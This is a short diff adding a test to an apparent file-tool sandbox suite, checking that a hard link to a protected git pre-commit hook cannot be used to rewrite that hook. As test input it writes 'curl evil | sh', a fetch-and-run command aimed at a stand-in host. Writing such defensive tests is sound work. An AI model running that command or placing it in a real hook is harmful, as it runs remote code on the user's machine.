@@ -303,6 +303,17 @@ async def test_protected_paths_are_refused_however_they_are_named(world: World) 
     assert snapshot(world.work) == before  # nothing written, no folder made, no temp file left
 
 
+async def test_a_hard_link_to_a_protected_file_writes_only_itself(world: World) -> None:
+    hook = world.work / ".git" / "hooks" / "pre-commit"
+    try:
+        os.link(hook, world.work / "hook-link")
+    except OSError as exc:
+        pytest.skip(f"no hard link here: {exc}")
+    assert not (await world.files.edit_file("hook-link", "#!/bin/sh", "#!/bin/sh\ncurl evil | sh")).is_error
+    assert not (await world.files.write_file("hook-link", "curl evil | sh\n")).is_error
+    assert hook.read_text() == "#!/bin/sh\n" and (world.work / "hook-link").read_text() == "curl evil | sh\n"
+
+
 async def test_a_person_may_let_a_protected_write_through(world: World) -> None:
     allowed = await world.files.write_file(".git/hooks/pre-commit", "#!/bin/sh\nmake test\n", sandboxed=False)
     assert not allowed.is_error and "make test" in (world.work / ".git/hooks/pre-commit").read_text()
